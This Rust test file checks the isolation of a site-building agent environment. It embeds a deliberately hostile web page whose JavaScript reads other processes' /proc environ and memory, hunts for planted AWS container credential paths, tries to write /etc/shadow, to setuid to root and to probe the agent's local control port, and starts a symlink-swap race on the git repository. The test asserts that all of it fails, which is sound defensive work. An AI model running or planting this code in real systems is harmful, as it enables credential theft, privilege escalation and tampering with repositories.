//! A site that wants everything that is not its own. What it tries is written anew here, in its own language: the agent's proof and this
//! story know nothing of each other.

use serde_json::{Value, json};

use crate::engine::Running;
use crate::session::STOP_TIME_MAX;
use crate::town::Town;

/// What a task of ECS is told, and nobody else may know.
const CANARY: &str = "/v2/credentials/c0ffee00-4a11-4b0b-9d3e-5eaf00d5eaf0";

const PAGE: &str = r#"
import fs from "node:fs";
import path from "node:path";
import net from "node:net";
import { spawn, spawnSync } from "node:child_process";

const CANARY = ["c0ffee00", "4a11", "4b0b", "9d3e", "5eaf00d5eaf0"].join("-");
// Lies where anybody may read it: who does not find this, does not look.
const PLANTED = ["a canary", "that was planted"].join(" ");

const isSite = process.env.USER === "site";
const SWAP = `
  const fs = require("node:fs");
  const pause = () => Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);
  fs.mkdirSync("src/pages/swapped", { recursive: true });
  for (;;) try {
    fs.rmSync("src/pages/kept", { recursive: true, force: true });
    fs.renameSync("src/pages/swapped", "src/pages/kept");
    fs.symlinkSync(process.argv[1], "src/pages/swapped");
    pause();
    fs.unlinkSync("src/pages/swapped");
    fs.renameSync("src/pages/kept", "src/pages/swapped");
    pause();
  } catch { pause(); }
`;

export async function GET() {
  const won = [];
  const found = [];
  const attempt = (what, deed) => {
    try {
      deed();
      won.push(what);
    } catch {}
  };
  const look = (where, bytes) => (bytes.includes(CANARY) || bytes.includes(PLANTED)) && found.push(where);

  // Itself, and whoever else is there.
  look("the environment", Buffer.from(JSON.stringify(process.env)));
  for (const name of Object.keys(process.env)) if (/^(AWS|ECS|SESSION|CLIENT|GENERATION)/.test(name)) won.push(`variable ${name}`);
  const processes = fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name)).map(Number);
  const uid = (pid) => { try { return fs.statSync(`/proc/${pid}`).uid; } catch { return -1; } };
  const others = processes.filter((pid) => uid(pid) === 0);
  for (const pid of processes) {
    for (const part of ["environ", "cmdline", "comm", "status"]) {
      try { look(`/proc/${pid}/${part}`, fs.readFileSync(`/proc/${pid}/${part}`)); } catch {}
    }
    try {
      for (const fd of fs.readdirSync(`/proc/${pid}/fd`)) {
        try { look(`/proc/${pid}/fd/${fd}`, Buffer.from(fs.readlinkSync(`/proc/${pid}/fd/${fd}`))); } catch {}
      }
    } catch {}
  }
  for (const pid of others) {
    for (const part of ["environ", "mem", "maps", "auxv"]) {
      attempt(`read /proc/${pid}/${part}`, () => fs.readSync(fs.openSync(`/proc/${pid}/${part}`, "r"), Buffer.alloc(1)));
    }
    attempt(`list /proc/${pid}/fd`, () => fs.readdirSync(`/proc/${pid}/fd`));
    attempt(`follow /proc/${pid}/root`, () => fs.readdirSync(`/proc/${pid}/root/`));
    for (const signal of [0, "SIGCONT", "SIGUSR1", "SIGTERM", "SIGKILL"]) attempt(`signal ${pid} with ${signal}`, () => process.kill(pid, signal));
  }

  // What lies around its own folder.
  const workspace = path.resolve(process.env.HOME, "../..");
  const state = path.resolve(workspace, "../../..");
  const closed = [
    "draft.git", "draft.git/HEAD", "draft.git/config", "draft.git/objects", "staging", "homes", "homes/editor", "homes/builder", "homes/site", "../lock",
  ].map((name) => path.join(workspace, name)).filter((name) => name !== process.env.HOME);
  for (const name of closed) {
    attempt(`read ${name}`, () => fs.readFileSync(name));
    attempt(`list ${name}`, () => fs.readdirSync(name));
    attempt(`write ${name}`, () => fs.closeSync(fs.openSync(name, "r+")));
    attempt(`give ${name} to itself`, () => fs.chmodSync(name, 0o777));
    attempt(`move ${name}`, () => fs.renameSync(name, `${name}-moved`));
  }
  for (const name of [workspace, state, "/", "/etc", "/usr/local/bin", "/proc/1"]) {
    attempt(`make something in ${name}`, () => fs.mkdirSync(path.join(name, "made")));
    attempt(`list ${name} of the agent's`, () => { if (name === workspace || name === state) fs.readdirSync(name); else throw 0; });
  }
  for (const name of ["runner.mjs"]) {
    const whole = path.join(workspace, name);
    attempt(`write ${whole}`, () => fs.closeSync(fs.openSync(whole, "r+")));
    attempt(`replace ${whole}`, () => fs.renameSync(path.join(process.env.HOME, ".."), whole));
    attempt(`remove ${whole}`, () => fs.rmSync(whole));
  }
  for (const name of ["/usr/local/bin/edit-agent", "/usr/local/bin/edit-init", "/etc/passwd", "/etc/shadow"]) {
    attempt(`write ${name}`, () => fs.closeSync(fs.openSync(name, "r+")));
  }
  attempt("read /etc/shadow", () => fs.readFileSync("/etc/shadow"));
  // By way of a link, in case somebody follows it for us.
  if (isSite) for (const [name, to] of [["public/git", path.join(workspace, "draft.git")], ["public/environ", "/proc/1/environ"]]) {
    try { fs.symlinkSync(to, name); } catch {}
    attempt(`read ${to} by a link`, () => { const at = fs.realpathSync(name); if (fs.statSync(at).isDirectory()) fs.readdirSync(at); else fs.readFileSync(at); });
  }

  // Everything that it can read of what is written while a container runs.
  const search = (folder, depth) => {
    let entries = [];
    try { entries = fs.readdirSync(folder, { withFileTypes: true }); } catch { return; }
    for (const entry of entries) {
      const whole = path.join(folder, entry.name);
      if (entry.isDirectory() && entry.name !== "node_modules" && depth < 8) search(whole, depth + 1);
      else if (entry.isFile()) { try { if (fs.statSync(whole).size < 1 << 20) look(whole, fs.readFileSync(whole)); } catch {} }
    }
  };
  for (const folder of ["/tmp", "/run", "/var", "/dev/shm", "/workspace", workspace, process.env.HOME]) search(folder, 0);

  // To become somebody else.
  for (const [what, deed] of [["setuid", () => process.setuid(0)], ["setgid", () => process.setgid(0)], ["setgroups", () => process.setgroups([0])]]) attempt(what, deed);
  const status = fs.readFileSync("/proc/self/status", "utf8");
  const field = (name) => status.match(new RegExp(`^${name}:\\s*(.*)$`, "m"))[1].trim();
  for (const name of ["CapInh", "CapPrm", "CapEff", "CapAmb"]) if (!/^0+$/.test(field(name))) won.push(`${name} ${field(name)}`);
  if (field("NoNewPrivs") !== "1") won.push("new privileges");
  for (const program of ["su", "mount", "newgrp", "passwd"]) {
    const ended = spawnSync(program, program === "su" ? ["-c", "true"] : ["/proc"], { timeout: 5000, input: "" });
    if (ended.status === 0) won.push(`run ${program}`);
  }
  const core = fs.readFileSync("/proc/self/limits", "utf8").match(/^Max core file size\s+(\S+)/m)[1];
  if (core !== "0") won.push(`core dumps of ${core}`);

  // The agent's own door.
  const ask = (line) => new Promise((done) => {
    const socket = net.connect(8080, "127.0.0.1", () => socket.write(`${line} HTTP/1.1\r\nHost: edit.amelia.localhost\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]`));
    let said = "";
    socket.on("data", (data) => (said += data)).on("error", () => done("")).on("close", () => done(said.split(" ")[1] ?? ""));
  });
  for (const line of ["GET /_edit/status", "GET /_edit/events", "GET /_edit/history", "POST /_edit/instructions", "GET /"]) {
    const code = await ask(line);
    if (code !== "421") won.push(`${line} answered ${code}`);
  }
  const said = JSON.stringify({ won, found, uid: process.getuid(), groups: process.getgroups(), others: others.length, closed });
  // A build throws its pages away.
  const kept = `/tmp/said-by-${process.getuid()}`;
  fs.writeFileSync(kept, said);
  fs.chmodSync(kept, 0o644);
  // Whoever writes here for us is to be led elsewhere.
  if (isSite && !fs.existsSync("/tmp/swaps")) spawn(process.execPath, ["-e", SWAP, path.join(workspace, "draft.git")], { detached: true, stdio: "ignore" });
  if (isSite) fs.writeFileSync("/tmp/swaps", "");
  return new Response(said);
}
"#;

/// What it said of its attempts as this user.
fn got_nothing(environment: &Running, uid: u32) {
    let said = environment.exec(&["/bin/cat", &format!("/tmp/said-by-{uid}")]);
    let said: Value = serde_json::from_str(&said.well()).expect("an object");
    assert_eq!(said["won"], json!([]), "{said:#}");
    assert_eq!(said["found"], json!(["/tmp/planted"]), "{said:#}");
    // All that it tried to get at is there.
    let closed = said["closed"].as_array().expect("a list");
    assert!(closed.len() > 5, "{said:#}");
    for path in closed {
        let path = path.as_str().expect("a path");
        environment.exec(&["/bin/ls", "--directory", path]).well();
    }
    assert_eq!(
        (&said["uid"], &said["groups"]),
        (&json!(uid), &json!([10000, uid])),
        "{said:#}"
    );
    assert!(
        said["others"].as_u64() >= Some(2),
        "it saw nobody to try: {said:#}"
    );
}

#[test]
fn a_hostile_site_gets_nothing() {
    let fixture = include_str!("../../../fixtures/amelia-astro/package.json");
    let package = fixture.replace(
        "\"scripts\": {",
        "\"scripts\": { \"preinstall\": \"touch /tmp/a-script-ran\", \"postinstall\": \"touch /tmp/a-script-ran\",",
    );
    assert_ne!(package, fixture);
    let town = Town::with(&[
        ("src/pages/hostile.json.ts", PAGE),
        ("package.json", &package),
    ]);
    town.wants_builds();
    let environment = town
        .environment()
        // Somebody listens there, as the agent of ECS does; the keys that are used are others.
        .variable(
            "AWS_CONTAINER_CREDENTIALS_FULL_URI",
            &format!("http://git:22{CANARY}"),
        )
        .start(&town.command("task-1"));
    let record = town.record_when("row['state'] == 'ready'");
    assert_eq!(record["isolation"]["users"], true, "{record:#}");
    // The site reaches the endpoint, as it does on Fargate, and that is said. What keeps it out is that it does not know the path.
    assert_eq!(record["isolation"]["boundary"], "none", "{record:#}");

    town.writes("before", "src/pages/before.md", "# Before\n");
    assert_eq!(town.receipt("before")["status"], "pushed");
    let plant = "echo a canary that was planted >/tmp/planted && chmod 644 /tmp/planted";
    environment.exec(&["/bin/sh", "-c", plant]).well();

    // When it is built, and when it is shown.
    town.asks("live", &json!({ "type": "publish" }));
    let receipt = town.receipt("live");
    assert_eq!(receipt["status"], "published", "{receipt:#}");
    got_nothing(&environment, 10003);
    let (status, answer) = town.page("/hostile.json");
    assert_eq!(status, 200, "{answer}");
    got_nothing(&environment, 10001);
    let ran = environment.exec(&["/bin/ls", "/tmp/a-script-ran"]);
    assert_ne!(ran.code, 0, "a script of the package ran at the install");

    // The links that it has put into the site lead nobody anywhere, and what it did keeps nothing from landing.
    assert_ne!(town.page("/environ").0, 200);
    town.writes("after", "src/pages/after.md", "# After\n");
    assert_eq!(town.receipt("after")["status"], "pushed");
    // Where the folder is now one and now a link out of the site, it lands in the site or nowhere.
    for number in 1..=3 {
        let id = format!("swapped-{number}");
        town.writes(&id, "src/pages/swapped/page.md", &format!("# {number}\n"));
        town.receipt(&id);
    }
    let git = "cd /workspace/environments/*/workspace/draft.git && find . -name page.md";
    assert_eq!(environment.exec(&["/bin/sh", "-c", git]).well(), "");
    assert!(environment.is_healthy());
    let (code, took) = environment.stop(STOP_TIME_MAX);
    assert!([0, 24].contains(&code), "{code} after {took:?}");
    let log = environment.all_lines().join("\n");
    assert!(log.contains("the environment ends"), "{log}");
    assert!(!log.contains("c0ffee00"), "the log has it");
}
